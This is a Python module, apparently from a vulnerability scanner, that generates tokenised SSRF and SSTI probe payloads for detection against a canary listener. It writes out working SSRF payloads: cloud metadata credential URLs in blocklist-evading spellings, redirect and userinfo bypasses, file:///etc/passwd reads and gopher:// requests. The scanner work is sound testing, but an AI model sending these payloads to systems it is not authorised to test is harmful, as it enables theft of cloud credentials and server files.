"""Payload catalogues for the runtime probes (pure: no I/O, no clock, no randomness of its own).

Every payload carries a unique token, so whatever comes back (a canary hit, a reflected product, a
redirect) names the exact payload that caused it. Tokens and numbers come from a ``rand`` object the
caller passes (``random.Random`` in production seeded from the OS, seeded in tests).

SSRF (CWE-918) families, after PayloadsAllTheThings' *Server Side Request Forgery* and PortSwigger's
SSRF pages:

* ``canary``: the out-of-band listener itself (internal reach, reflected or blind);
* ``canary-spelling``: the listener's IPv4 address as decimal, hex, octal, short and IPv4-mapped
  IPv6, which naive blocklists miss;
* ``userinfo``: an allowed-looking name before ``@`` with the listener after it;
* ``metadata``: cloud metadata endpoints (AWS IMDS and its IPv6 address, ECS task credentials, GCP,
  Azure, Alibaba, OpenStack) with the link-local address in every spelling the C resolver reads;
* ``redirect``: the listener answers with a 302/307 to a metadata URL (filters that check only the
  first URL);
* ``scheme``: ``file://`` reads, ``gopher://``/``dict://`` to the listener;
* ``internal-port``: a closed loopback port, whose connection error leaks that the server connected;
* ``timing``: the listener holds its answer for a set time; a server that fetches waits with it.

SSTI (CWE-1336) families, after PortSwigger's *Server-side template injection* decision tree and
PayloadsAllTheThings' *Server Side Template Injection*: one arithmetic expression per syntax
(``{{a*b}}``, ``${a*b}``, ``#{a*b}``, ``<%= a*b %>``, ``{a*b}``, ``*{a*b}``, ``@(a*b)``,
``{{=a*b}}``, ``[[${a*b}]]``, Velocity's ``#set``) between unique markers, with random factors so
the product cannot be on the page by chance; engine fingerprints (``{{7*'7'}}`` is ``7777777`` in
Jinja2 and ``49`` in Twig); and error probes (unclosed tags, the polyglot ``${{<%[%'"}}%\\.``).
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field
from typing import Protocol
from urllib.parse import urlsplit, urlunsplit

TOKEN_PREFIX = "vgl"
TOKEN_ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789"
TOKEN_LEN = 14  # after the prefix


class Rand(Protocol):
    def randrange(self, start: int, stop: int | None = None, step: int = 1) -> int: ...


def new_token(rand: Rand) -> str:
    return TOKEN_PREFIX + "".join(TOKEN_ALPHABET[rand.randrange(len(TOKEN_ALPHABET))] for _ in range(TOKEN_LEN))


@dataclass(frozen=True)
class Payload:
    """One value to put in the probed parameter, and what would show it worked.

    ``expect`` holds what the detectors look for: ``reflect`` (a string whose presence in the
    response proves evaluation or a fetch), ``signatures`` (names of response signatures, e.g.
    ``metadata``), ``oob`` (the token a canary hit would carry), ``delay`` (seconds the canary
    holds its answer)."""

    kind: str  # "ssrf" | "ssti"
    family: str
    value: str
    token: str
    note: str = ""
    reflect: str | None = None
    signatures: tuple[str, ...] = ()
    oob: tuple[str, ...] = ()
    delay: float | None = None
    engine_hint: str | None = None
    extra: dict = field(default_factory=dict)


# --- SSRF ----------------------------------------------------------------------------------------

METADATA_V4 = "169.254.169.254"
METADATA_ENDPOINTS: list[tuple[str, str]] = [
    ("aws-imds", "/latest/meta-data/"),
    ("aws-imds-credentials", "/latest/meta-data/iam/security-credentials/"),
    ("aws-userdata", "/latest/user-data"),
    ("gcp-legacy", "/computeMetadata/v1beta1/instance/?recursive=true"),
    ("azure-imds", "/metadata/instance?api-version=2021-02-01"),
    ("openstack", "/openstack/latest/meta_data.json"),
]


def ipv4_spellings(addr: str) -> list[tuple[str, str]]:
    """(name, host as written in a URL) for the ways the C resolver reads one IPv4 address."""
    ip = ipaddress.IPv4Address(addr)
    n = int(ip)
    o = [int(x) for x in addr.split(".")]
    out = [
        ("dotted", addr),
        ("decimal", str(n)),
        ("hex", hex(n)),
        ("octal", ".".join(f"0{x:o}" for x in o)),
        ("hex-dotted", ".".join(hex(x) for x in o)),
        ("short", f"{o[0]}.{o[1]}.{(o[2] << 8) | o[3]}"),
        ("ipv4-mapped", f"[::ffff:{addr}]"),
        ("ipv4-mapped-hex", f"[::ffff:{o[0]:02x}{o[1]:02x}:{o[2]:02x}{o[3]:02x}]"),
    ]
    if o[0] == 127:
        out.append(("short-loopback", f"127.{(o[1] << 16) | (o[2] << 8) | o[3]}" if (o[1], o[2]) != (0, 0) else f"127.{o[3]}"))
    return out


def b64(text: str) -> str:
    """URL-safe base64 without padding: a redirect target that names no address in the payload
    (a filter that reads the first URL sees only the canary)."""
    import base64

    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def canary_body(token: str) -> str:
    """What the canary answers for ``token`` (see :mod:`vigil.security.probes.canary`)."""
    return f"vigil canary {token}"


def _with_host(url: str, host: str, path: str) -> str:
    p = urlsplit(url)
    netloc = host + (f":{p.port}" if p.port else "")
    return urlunsplit((p.scheme, netloc, path, "", ""))


def ssrf_payloads(canary_url: str, rand: Rand, *, delay: float = 2.0) -> list[Payload]:
    """The SSRF catalogue against a canary reachable at ``canary_url`` (``http://host:port``)."""
    base = canary_url.rstrip("/")
    parts = urlsplit(base)
    host = parts.hostname or ""
    out: list[Payload] = []

    def tok() -> str:
        return new_token(rand)

    t = tok()
    out.append(Payload("ssrf", "canary", f"{base}/c/{t}", t, "the canary listener by its own URL", reflect=canary_body(t), oob=(t,)))
    try:
        is_v4 = isinstance(ipaddress.ip_address(host), ipaddress.IPv4Address)
    except ValueError:
        is_v4 = False
    if is_v4:
        for name, spelled in ipv4_spellings(host)[1:]:
            t = tok()
            out.append(Payload("ssrf", "canary-spelling", _with_host(base, spelled, f"/c/{t}"), t, f"the canary's address written {name}", reflect=canary_body(t), oob=(t,)))
    if host in ("127.0.0.1", "localhost"):
        t = tok()
        out.append(Payload("ssrf", "canary-spelling", _with_host(base, "localhost" if host != "localhost" else "127.0.0.1", f"/c/{t}"), t,
                           "the canary by its other loopback name", reflect=canary_body(t), oob=(t,)))
    t = tok()
    netloc = f"allowed.example.com@{parts.netloc}"
    out.append(Payload("ssrf", "userinfo", urlunsplit((parts.scheme, netloc, f"/c/{t}", "", "")), t,
                       "an allowed-looking name as userinfo before the canary", reflect=canary_body(t), oob=(t,)))
    # cloud metadata, every spelling
    for name, spelled in ipv4_spellings(METADATA_V4):
        for ep, path in METADATA_ENDPOINTS[:1] if name != "dotted" else METADATA_ENDPOINTS:
            t = tok()
            out.append(Payload("ssrf", "metadata", f"http://{spelled}{path}", t, f"{ep} at {METADATA_V4} written {name}", signatures=("metadata",)))
    for hostname, path, note in (
        ("[fd00:ec2::254]", "/latest/meta-data/", "AWS IMDS over IPv6"),
        ("instance-data", "/latest/meta-data/", "AWS IMDS by its EC2 name"),
        ("169.254.170.2", "/v2/credentials/", "ECS task credentials"),
        ("metadata.google.internal", "/computeMetadata/v1beta1/instance/?recursive=true", "GCP metadata by name"),
        ("metadata", "/computeMetadata/v1beta1/", "GCP metadata by its short name"),
        ("100.100.100.200", "/latest/meta-data/", "Alibaba Cloud metadata"),
        ("169.254.169.254.nip.io", "/latest/meta-data/", "a wildcard DNS name that resolves to the metadata address"),
    ):
        t = tok()
        out.append(Payload("ssrf", "metadata", f"http://{hostname}{path}", t, note, signatures=("metadata",)))
    # redirects from the canary to metadata and back to the canary
    for code in (302, 307):
        t = tok()
        target = f"http://{METADATA_V4}/latest/meta-data/"
        out.append(Payload("ssrf", "redirect", f"{base}/r/{t}?code={code}&to64={b64(target)}", t,
                           f"the canary answers {code} to the metadata service", signatures=("metadata",), oob=(t,)))
    t, t2 = tok(), tok()
    out.append(Payload("ssrf", "redirect", f"{base}/r/{t}?code=302&to64={b64(f'{base}/c/{t2}')}", t,
                       "the canary redirects to itself (the server follows redirects)", reflect=canary_body(t2), oob=(t2,), extra={"first": t}))
    # schemes
    for url, sig, note in (
        ("file:///etc/passwd", "passwd", "a local file through file://"),
        ("file://localhost/etc/passwd", "passwd", "file:// with a host"),
        ("file:///c:/windows/win.ini", "winini", "a Windows file through file://"),
    ):
        t = tok()
        out.append(Payload("ssrf", "scheme", url, t, note, signatures=(sig,)))
    t = tok()
    out.append(Payload("ssrf", "scheme", f"gopher://{parts.netloc}/_GET%20/c/{t}%20HTTP/1.0%0D%0A%0D%0A", t,
                       "gopher:// to the canary (raw TCP from the server)", reflect=canary_body(t), oob=(t,)))
    t = tok()
    out.append(Payload("ssrf", "scheme", f"dict://{parts.netloc}/{t}", t, "dict:// to the canary", oob=(t,)))
    # a closed internal port: the error tells the server tried
    t = tok()
    out.append(Payload("ssrf", "internal-port", f"http://127.0.0.1:1/{t}", t, "a closed port on the server's loopback", signatures=("fetch-error",)))
    # timing: the canary holds its answer
    t = tok()
    out.append(Payload("ssrf", "timing", f"{base}/d/{t}?s={delay:g}", t, f"the canary waits {delay:g}s before answering", oob=(t,), delay=delay))
    return out


# --- SSTI ----------------------------------------------------------------------------------------

# (syntax name, template of the expression with {a} and {b}, engines it points at)
SSTI_SYNTAXES: list[tuple[str, str, str]] = [
    ("double-curly", "{{{{{a}*{b}}}}}", "Jinja2, Twig, Nunjucks, Tornado, Liquid-like"),
    ("dollar-curly", "${{{a}*{b}}}", "FreeMarker, Mako, JSP/Spring EL, Thymeleaf, Groovy, JS template literal"),
    ("hash-curly", "#{{{a}*{b}}}", "Ruby interpolation, Pug, Spring EL, Thymeleaf"),
    ("erb", "<%= {a}*{b} %>", "ERB, EJS, ASP"),
    ("single-curly", "{{{a}*{b}}}", "Smarty"),
    ("star-curly", "*{{{a}*{b}}}", "Thymeleaf selection expression"),
    ("razor", "@({a}*{b})", "Razor"),
    ("dot", "{{{{={a}*{b}}}}}", "doT"),
    ("thymeleaf-inline", "[[${{{a}*{b}}}]]", "Thymeleaf inlining"),
    ("velocity", "#set($x={a}*{b})${{x}}", "Velocity"),
    ("dollar-double-curly", "${{{{{a}*{b}}}}}", "AngularJS-style and mixed engines"),
]

# fingerprints: (syntax that evaluated, payload template, {result: engine})
FINGERPRINTS: dict[str, list[tuple[str, dict[str, str]]]] = {
    "double-curly": [("{{7*'7'}}", {"7777777": "Jinja2", "49": "Twig"}), ("{{'vg'~'lx'}}", {"vglx": "Jinja2 or Twig (~ concatenation)"})],
    "dollar-curly": [('${"z".join("ab")}', {"azb": "Mako"}), ('${"ab"?upper_case}', {"AB": "FreeMarker"})],
    "erb": [('<%= "ab".reverse %>', {"ba": "ERB (Ruby)"})],
    "single-curly": [('{"ab"|upper}', {"AB": "Smarty"})],
}

ERROR_PROBES: list[tuple[str, str]] = [
    ("polyglot", "${{<%[%'\"}}%\\."),
    ("unclosed-double-curly", "{{"),
    ("unclosed-block", "{%"),
    ("unclosed-dollar", "${"),
    ("unclosed-erb", "<%="),
]


def markers(token: str) -> tuple[str, str]:
    """Text around an expression, letters only (every engine passes them through)."""
    return f"zq{token}a", f"b{token[-6:]}qz"


def ssti_payloads(rand: Rand) -> list[Payload]:
    out: list[Payload] = []
    for name, tmpl, engines in SSTI_SYNTAXES:
        t = new_token(rand)
        a, b = rand.randrange(1009, 9973), rand.randrange(1009, 9973)
        pre, post = markers(t)
        expr = tmpl.format(a=a, b=b)
        out.append(Payload("ssti", "arithmetic", f"{pre}{expr}{post}", t, f"{name}: {engines}", reflect=f"{pre}{a * b}{post}",
                           engine_hint=engines, extra={"syntax": name, "expression": expr}))
    for name, value in ERROR_PROBES:
        t = new_token(rand)
        pre, post = markers(t)
        out.append(Payload("ssti", "error", f"{pre}{value}{post}", t, f"{name}: a template syntax error", signatures=("template-error",),
                           extra={"syntax": name}))
    return out


def fingerprint_payloads(syntax: str, rand: Rand) -> list[Payload]:
    """Engine fingerprints to send once ``syntax`` evaluated."""
    out = []
    for expr, answers in FINGERPRINTS.get(syntax, []):
        t = new_token(rand)
        pre, post = markers(t)
        out.append(Payload("ssti", "fingerprint", f"{pre}{expr}{post}", t, f"engine fingerprint {expr}",
                           extra={"syntax": syntax, "answers": {f"{pre}{k}{post}": v for k, v in answers.items()}, "expression": expr}))
    return out
